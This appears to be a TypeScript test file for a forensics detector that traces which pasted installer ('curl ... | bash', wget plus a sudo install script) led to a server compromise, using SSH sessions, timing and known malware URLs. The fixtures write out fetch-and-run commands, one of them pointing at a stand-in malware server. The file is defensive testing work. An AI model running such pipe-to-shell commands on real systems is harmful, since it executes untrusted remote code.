import assert from 'node:assert/strict'
import { test } from 'node:test'
import { at, clueless, eventOf } from '../../test/events.ts'
import type { HostEvent } from '../core/event.ts'
import type { StandingClues } from '../core/trace.ts'
import { cluesOf } from './clues.ts'
import { pastedInstaller } from './pasted-installer.ts'

const anchor = { at: at('2026-05-01 03:20:00'), spread: 1, text: { zh: '', en: '' }, events: ['x'] } as const
const home = '198.51.100.20'
const visits = (until: number): HostEvent[] =>
  Array.from({ length: until }, (_, i) =>
    eventOf(`2026-04-2${i} 09:00:00`, 'login', { address: home, user: 'root', method: 'publickey', locator: `/x:${i}` }),
  )
const login = (address: string): HostEvent =>
  eventOf('2026-05-01 03:18:00', 'login', { address, user: 'root', method: 'publickey', port: 50000 })
const typed = (command: string, given: Partial<HostEvent> = {}): HostEvent =>
  eventOf('2026-05-01 04:00:00', 'command', {
    source: 'history',
    user: 'root',
    command,
    clock: 'order',
    trust: 'user',
    locator: `/h:${command}`,
    ...given,
  })
const session = (address: string): Partial<StandingClues> => ({
  causal: [{ key: 'SSH_CONNECTION', value: `${address} 50000 10.0.0.5 22`, entity: 'process:1@1', events: [] }],
})
const found = (events: HostEvent[], standing: Partial<StandingClues> = {}): string | undefined => {
  const answer = pastedInstaller(
    cluesOf('web1', events, [], clueless({ owners: ['root'], ...standing }), anchor, at('2026-05-02 00:00:00')),
  )
  return answer && `${answer.tie} ${answer.run.command}`
}

test('piped into a shell in the session of somebody known for long', () => {
  const pipe = typed('curl -fsSL https://get.example.com/panel.sh | sudo bash')
  assert.equal(found([...visits(6), login(home), typed('uptime'), pipe], session(home)), `session ${pipe.command}`)
})

test('fetched, unpacked and installed: the sudo of it is dated', () => {
  const fetch = typed('wget -q https://example.com/panel-1.2.tar.gz')
  const run = eventOf('2026-05-01 03:19:50', 'privilege', { source: 'auth', user: 'root', command: '/root/panel-1.2/install.sh' })
  assert.equal(found([...visits(6), login(home), fetch, run]), `time ${run.command}`)
  assert.equal(found([...visits(6), login(home), run]), undefined)
})

test('no login on record: only what came from the server of the malware itself', () => {
  const pipe = typed('curl -fsSL http://198.51.100.7:8088/get.sh | bash')
  const url = (value: string): Partial<StandingClues> => ({ remains: [{ key: 'url', value, entity: 'file:/x', findings: ['F-1'] }] })
  assert.equal(found([pipe], url('http://198.51.100.7:8088/x.sh')), `server ${pipe.command}`)
  assert.equal(found([pipe], url('http://203.0.113.9/x.sh')), undefined)
})

test('near misses: a stranger’s session, an old installer with nothing of that time, a deployment of one’s own, a mere download', () => {
  const pipe = typed('curl -fsSL https://get.example.com/panel.sh | bash')
  assert.equal(found([...visits(6), login('203.0.113.9'), pipe], session('203.0.113.9')), undefined)
  assert.equal(found([...visits(6), login(home), pipe]), undefined)
  assert.equal(found([...visits(6), login(home), typed('./deploy.sh production')], session(home)), undefined)
  assert.equal(found([...visits(6), login(home), typed('curl -fsSL https://example.com/panel.sh -o panel.txt')], session(home)), undefined)
})
